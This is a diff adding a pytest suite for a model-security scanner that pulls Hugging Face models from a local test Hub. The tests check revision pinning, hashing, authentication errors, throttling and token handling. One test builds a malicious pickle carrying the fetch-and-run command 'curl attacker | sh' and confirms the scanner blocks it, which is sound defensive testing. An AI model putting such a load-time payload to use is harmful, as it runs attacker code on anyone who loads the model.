@@ -1,0 +1,335 @@
+"""hf:// models scanned through the real huggingface_hub client against the test Hub."""
+
+from __future__ import annotations
+
+import dataclasses
+import hashlib
+import json
+import logging
+import os
+
+import numpy as np
+import pytest
+from safetensors.numpy import save
+
+from conftest import hf_config
+from hf_server import HubFile, HubServer
+from model_fixtures import malicious_pickle, torch_zip
+from modelsec.engine import Engine
+from modelsec.policy import Outcome, evaluate, parse_group
+from modelsec.rules.base import EvaluationInput
+from modelsec.sources import ScannedModel, ScanOptions, parse_model_uri, scan_model
+
+CONTENT_GROUP = parse_group(
+    {"rules": [{"name": "LoadTimeCodeExecution"}, {"name": "SuspiciousComponents"}]}, "test", "content"
+)
+
+
+def hf_scan(server: HubServer, uri: str, **config: object) -> ScannedModel:
+    return scan_model(parse_model_uri(uri), Engine(), ScanOptions(config=hf_config(server, **config)))
+
+
+def outcome(scanned: ScannedModel) -> Outcome:
+    return evaluate(
+        CONTENT_GROUP, EvaluationInput(scanned.report, scanned.source_type, scanned.metadata)
+    ).outcome
+
+
+def codes(scanned: ScannedModel) -> list[str]:
+    return [i.code for i in scanned.report.all_incompletes()]
+
+
+def safetensors_bytes(mib: int) -> bytes:
+    return save({"weight": np.zeros((mib, 256 * 1024), dtype=np.float32)})  # mib MiB of data
+
+
+@pytest.fixture
+def model(hub: HubServer) -> dict[str, bytes]:
+    files = {
+        "model.safetensors": safetensors_bytes(1),
+        "config.json": b'{"architectures": ["LlamaForCausalLM"]}',
+        "README.md": b"---\nlicense: apache-2.0\n---\n# model\n",
+    }
+    hub.orgs["acme"] = True
+    hub.add_repo("acme/model", files, card_data={"license": "apache-2.0"}, tags=["license:apache-2.0"])
+    return files
+
+
+def test_scan_records_commit_metadata_and_lfs_fingerprints(hub: HubServer, model: dict[str, bytes]) -> None:
+    scanned = hf_scan(hub, "hf://acme/model")
+    repo = hub.repos["acme/model"]
+    sha = repo.refs["main"]
+    report = scanned.report
+
+    assert report.revision == sha and scanned.metadata.revision == sha
+    assert report.locations == ["hf://acme/model"]
+    assert not report.all_incompletes()
+    meta = scanned.metadata
+    assert (meta.model_id, meta.author, meta.license, meta.verified_organization) == (
+        "acme/model", "acme", "apache-2.0", True,
+    )
+    assert meta.last_modified is not None
+    by_path = {f.path.rsplit("/", 1)[-1]: f for f in report.files}
+    assert set(by_path) == set(model)
+    lfs_sha = repo.commits[-1].files["model.safetensors"].sha256
+    assert by_path["model.safetensors"].sha256 == lfs_sha
+    # Non-LFS files: hashed (small), and their git blob id is the recorded source digest.
+    config = by_path["config.json"]
+    assert config.sha256 == hashlib.sha256(model["config.json"]).hexdigest()
+    assert config.digest == f"git-blob:{repo.commits[-1].files['config.json'].oid}"
+    # Every file was read at the resolved commit, never at "main".
+    reads = [r.path for r in hub.requests if "/resolve/" in r.path]
+    assert reads and all(f"/resolve/{sha}/" in p for p in reads)
+
+
+def test_branches_and_tags_resolve_to_their_commit(hub: HubServer) -> None:
+    hub.add_repo("acme/tagged", {"a.json": b"{}"}, git_tags=("v1",))
+    first = hub.repos["acme/tagged"].refs["v1"]
+    second = hub.push("acme/tagged", {"a.json": b'{"changed": true}'}).sha
+
+    assert hf_scan(hub, "hf://acme/tagged@v1").report.revision == first
+    assert hf_scan(hub, "hf://acme/tagged").report.revision == second
+    pinned = hf_scan(hub, f"hf://acme/tagged@{first}")
+    assert pinned.report.revision == first
+    assert pinned.metadata.extra["requestedRevision"] == first
+    f = pinned.report.files[0]
+    assert f.sha256 == hashlib.sha256(b"{}").hexdigest()
+
+
+def test_https_reference_form(hub: HubServer, model: dict[str, bytes]) -> None:
+    ref = parse_model_uri("https://huggingface.co/acme/model/tree/main")
+    scanned = scan_model(ref, Engine(), ScanOptions(config=hf_config(hub)))
+    assert scanned.report.revision == hub.repos["acme/model"].refs["main"]
+
+
+def test_large_safetensors_transfers_a_small_fraction(hub: HubServer) -> None:
+    data = safetensors_bytes(48)
+    hub.add_repo("acme/big", {"model.safetensors": data})
+    scanned = hf_scan(hub, "hf://acme/big")
+    report = scanned.report
+    assert not report.all_incompletes()
+    assert report.files[0].format == "safetensors"
+    assert report.files[0].sha256 == hashlib.sha256(data).hexdigest()  # from the LFS listing
+    assert report.bytes_transferred is not None
+    assert report.bytes_transferred < 0.01 * len(data)
+    # The server agrees: what it sent for the file is what the scan counted.
+    assert hub.bytes_sent("model.safetensors") == report.bytes_transferred
+
+
+def test_torch_zip_reads_directory_and_pickle_not_storages(hub: HubServer) -> None:
+    """Each member costs its detection head and format probes (tens to hundreds of KiB),
+    never its data; the benchmark shows the fraction on multi-gigabyte archives."""
+    storages = {str(i): bytes(16 << 20) for i in range(2)}
+    archive = torch_zip(storages)
+    hub.add_repo("acme/torch", {"pytorch_model.bin": archive})
+    report = hf_scan(hub, "hf://acme/torch").report
+    assert not [i for i in report.all_incompletes() if i.code.startswith("MS-SRC")]
+    assert report.files[0].format.startswith(("pytorch", "zip")), report.files[0].format
+    assert report.bytes_transferred < 0.05 * len(archive)
+
+
+def test_malicious_pickle_and_torch_zip_are_found(hub: HubServer) -> None:
+    evil = malicious_pickle("curl attacker | sh")
+    hub.add_repo("mallory/evil", {
+        "model.pkl": evil,
+        "pytorch_model.bin": torch_zip({"0": bytes(4096)}, pickle_bytes=evil),
+    })
+    scanned = hf_scan(hub, "hf://mallory/evil")
+    findings = scanned.report.all_findings()
+    flagged = {f.file.split("!")[0].rsplit("/", 1)[-1] for f in findings if f.rule == "LoadTimeCodeExecution"}
+    assert flagged == {"model.pkl", "pytorch_model.bin"}, findings
+    assert outcome(scanned) == Outcome.BLOCKED
+
+
+def test_allow_and_ignore_patterns(hub: HubServer, model: dict[str, bytes]) -> None:
+    only = hf_scan(hub, "hf://acme/model", allowPatterns="*.safetensors")
+    assert [f.path for f in only.report.files] == ["hf://acme/model/model.safetensors"]
+    skipped = hf_scan(hub, "hf://acme/model", ignorePatterns=["*.md", "*.json"])
+    assert [f.path for f in skipped.report.files] == ["hf://acme/model/model.safetensors"]
+    nothing = hf_scan(hub, "hf://acme/model", allowPatterns="*.gguf")
+    assert codes(nothing) == ["MS-SRC-008"]
+    assert "none of its 3 file(s)" in nothing.report.incompletes[0].reason
+    assert outcome(nothing) == Outcome.ERROR
+
+
+# --- errors users will hit ----------------------------------------------------------------
+
+
+def test_missing_repository(hub: HubServer) -> None:
+    scanned = hf_scan(hub, "hf://acme/does-not-exist")
+    assert codes(scanned) == ["MS-SRC-003"]
+    assert "does not exist" in scanned.report.incompletes[0].reason
+    assert outcome(scanned) == Outcome.ERROR
+
+
+def test_private_model_needs_a_token(hub: HubServer) -> None:
+    hub.add_repo("acme/private", {"model.safetensors": safetensors_bytes(1)}, private=True)
+    hub.tokens["hf_reader_token_1234"] = {"acme/private"}
+    hub.tokens["hf_other_token_5678"] = set()
+
+    anonymous = hf_scan(hub, "hf://acme/private")
+    assert codes(anonymous) == ["MS-SRC-004"]
+    assert "requires authentication" in anonymous.report.incompletes[0].reason
+    assert outcome(anonymous) == Outcome.ERROR
+
+    wrong = hf_scan(hub, "hf://acme/private", token="hf_other_token_5678")
+    assert codes(wrong) == ["MS-SRC-003"]
+    assert "token given cannot see it" in wrong.report.incompletes[0].reason
+
+    ok = hf_scan(hub, "hf://acme/private", token="hf_reader_token_1234")
+    assert not ok.report.all_incompletes() and ok.metadata.extra.get("private") == "true"
+
+
+def test_token_from_environment(hub: HubServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    hub.add_repo("acme/private", {"a.json": b"{}"}, private=True)
+    hub.tokens["hf_env_token_abcdef"] = {"*"}
+    monkeypatch.setenv("HF_TOKEN", "hf_env_token_abcdef")
+    assert not hf_scan(hub, "hf://acme/private").report.all_incompletes()
+
+
+def test_invalid_token_is_rejected_precisely(hub: HubServer, model: dict[str, bytes]) -> None:
+    scanned = hf_scan(hub, "hf://acme/model", token="hf_expired_token_000")
+    assert codes(scanned) == ["MS-SRC-004"]
+    assert "rejected the credentials" in scanned.report.incompletes[0].reason
+
+
+def test_gated_model_without_access(hub: HubServer) -> None:
+    hub.add_repo("meta/gated", {"model.safetensors": safetensors_bytes(1)}, gated="manual")
+    hub.tokens["hf_not_granted_0000"] = set()
+    hub.tokens["hf_granted_token_00"] = {"meta/gated"}
+
+    anonymous = hf_scan(hub, "hf://meta/gated")
+    assert codes(anonymous) == ["MS-SRC-004"]
+    assert "gated model" in anonymous.report.incompletes[0].reason
+    assert "no token was given" in anonymous.report.incompletes[0].reason
+    assert outcome(anonymous) == Outcome.ERROR
+
+    refused = hf_scan(hub, "hf://meta/gated", token="hf_not_granted_0000")
+    assert codes(refused) == ["MS-SRC-004"]
+    assert "not been granted access" in refused.report.incompletes[0].reason
+
+    granted = hf_scan(hub, "hf://meta/gated", token="hf_granted_token_00")
+    assert not granted.report.all_incompletes()
+    assert granted.metadata.extra["gated"] == "manual"
+
+
+def test_revision_not_found(hub: HubServer, model: dict[str, bytes]) -> None:
+    scanned = hf_scan(hub, "hf://acme/model@no-such-branch")
+    assert codes(scanned) == ["MS-SRC-005"]
+    assert "'no-such-branch' does not exist" in scanned.report.incompletes[0].reason
+    assert outcome(scanned) == Outcome.ERROR
+
+
+def test_throttling_is_retried_with_backoff(hub: HubServer, model: dict[str, bytes]) -> None:
+    hub.throttle(2, match="/api/models/")
+    scanned = hf_scan(hub, "hf://acme/model")
+    assert not scanned.report.all_incompletes()
+    statuses = [r.status for r in hub.requests if r.path.startswith("/api/models/")]
+    assert statuses[:3] == [429, 429, 200]
+
+    hub.throttle(3, match="/resolve/")  # range reads are retried too
+    assert not hf_scan(hub, "hf://acme/model").report.all_incompletes()
+
+
+def test_persistent_throttling_gives_up_in_bounded_attempts(hub: HubServer, model: dict[str, bytes]) -> None:
+    hub.throttle(1000, match="/api/models/", retry_after=3600)  # a hostile Retry-After is capped
+    scanned = hf_scan(hub, "hf://acme/model", maxRetries=3)
+    assert codes(scanned) == ["MS-SRC-006"]
+    assert "gave up after 4 attempts" in scanned.report.incompletes[0].reason
+    assert sum(1 for r in hub.requests if r.status == 429) == 4
+    assert outcome(scanned) == Outcome.ERROR
+
+
+def test_timeout(hub: HubServer, model: dict[str, bytes]) -> None:
+    hub.stall_seconds = 2.0
+    scanned = hf_scan(hub, "hf://acme/model", timeout=0.2, maxRetries=1)
+    assert codes(scanned) == ["MS-SRC-007"]
+    assert "timeout" in scanned.report.incompletes[0].reason
+    assert outcome(scanned) == Outcome.ERROR
+
+
+def test_connection_refused() -> None:
+    from conftest import free_port
+
+    ref = parse_model_uri("hf://acme/model")
+    config = {"endpoint": f"http://127.0.0.1:{free_port()}", "maxRetries": 1, "retryBaseSeconds": 0.01}
+    scanned = scan_model(ref, Engine(), ScanOptions(config=config))
+    assert codes(scanned) == ["MS-SRC-007"]
+    assert "cannot connect" in scanned.report.incompletes[0].reason
+
+
+def test_invalid_config_key_is_an_error_naming_the_key(hub: HubServer) -> None:
+    scanned = hf_scan(hub, "hf://acme/model", tokn="hf_secret_typo_value")
+    assert codes(scanned) == ["MS-SRC-002"]
+    reason = scanned.report.incompletes[0].reason
+    assert "tokn: unknown key" in reason and "hf_secret_typo_value" not in reason
+
+
+# --- integrity and the temporary area ---------------------------------------------------
+
+
+def test_bytes_not_matching_lfs_sha256_are_an_error(hub: HubServer) -> None:
+    genuine = malicious_pickle("true")
+    hub.add_repo("acme/tampered", {"model.pkl": HubFile("model.pkl", data=genuine, served=genuine[:-2] + b"X.")})
+    scanned = hf_scan(hub, "hf://acme/tampered")
+    assert "MS-SRC-009" in codes(scanned)
+    assert "SHA-256" in scanned.report.files[0].incompletes[-1].reason
+    assert outcome(scanned) == Outcome.ERROR
+
+
+def test_server_without_range_support_downloads_whole_and_cleans_up(hub: HubServer, tmp_path: os.PathLike[str]) -> None:
+    data = safetensors_bytes(2)
+    hub.add_repo("acme/norange", {"model.safetensors": data})
+    hub.ignore_range = True
+    scanned = hf_scan(hub, "hf://acme/norange", tempDir=str(tmp_path))
+    report = scanned.report
+    assert not report.all_incompletes()
+    assert report.files[0].format == "safetensors"
+    assert report.bytes_transferred == len(data)  # once, verified against the LFS sha256
+    assert os.listdir(tmp_path) == []  # the temporary area is gone
+
+
+def test_whole_download_bounded_by_temp_limit(hub: HubServer, tmp_path: os.PathLike[str]) -> None:
+    hub.add_repo("acme/norange", {"model.safetensors": safetensors_bytes(2)})
+    hub.ignore_range = True
+    scanned = hf_scan(hub, "hf://acme/norange", tempDir=str(tmp_path), maxDownloadBytes=1 << 20)
+    assert "MS-SRC-010" in codes(scanned)
+    assert "maxDownloadBytes" in scanned.report.files[0].incompletes[-1].reason
+    assert outcome(scanned) == Outcome.ERROR
+    assert os.listdir(tmp_path) == []
+
+
+# --- credentials --------------------------------------------------------------------------
+
+
+def test_token_never_reaches_cdn_reports_or_logs(hub: HubServer, caplog: pytest.LogCaptureFixture) -> None:
+    token = "hf_very_secret_token_0123456789"
+    hub.add_repo("acme/private", {"model.safetensors": safetensors_bytes(1), "a.json": b"{}"}, private=True)
+    hub.tokens[token] = {"acme/private"}
+    caplog.set_level(logging.DEBUG)
+
+    scanned = hf_scan(hub, "hf://acme/private", token=token)
+    failed = hf_scan(hub, "hf://acme/missing", token=token)
+
+    assert not scanned.report.all_incompletes()
+    hub_reads = [r for r in hub.requests if r.server == "hub"]
+    cdn_reads = [r for r in hub.requests if r.server == "cdn"]
+    assert hub_reads and all(r.authorization for r in hub_reads)
+    assert cdn_reads and not any(r.authorization for r in cdn_reads)  # not forwarded off the Hub
+    for result in (scanned, failed):
+        text = json.dumps(dataclasses.asdict(result.report), default=str) + repr(result.metadata)
+        assert token not in text
+    assert token not in caplog.text
+
+
+def test_cli_scans_hf_reference(hub: HubServer, model: dict[str, bytes], tmp_path: os.PathLike[str]) -> None:
+    import subprocess
+    import sys
+
+    env = {**os.environ, "HF_ENDPOINT": hub.url}
+    run = subprocess.run(
+        [sys.executable, "-m", "modelsec.cli.main", "scan", "hf://acme/model", "--format", "json"],
+        capture_output=True, text=True, env=env, timeout=120,
+    )
+    assert run.returncode in (0, 1), run.stderr
+    assert hub.repos["acme/model"].refs["main"] in run.stdout
